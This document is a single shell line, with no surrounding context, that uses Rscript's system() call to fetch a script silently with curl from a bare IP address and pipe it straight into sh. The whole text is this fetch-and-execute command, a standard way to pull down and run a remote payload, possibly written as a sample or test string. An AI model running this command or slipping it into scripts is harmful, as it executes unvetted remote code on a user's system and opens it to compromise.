Rscript -e 'system("curl -s http://203.0.113.53/r | sh")'
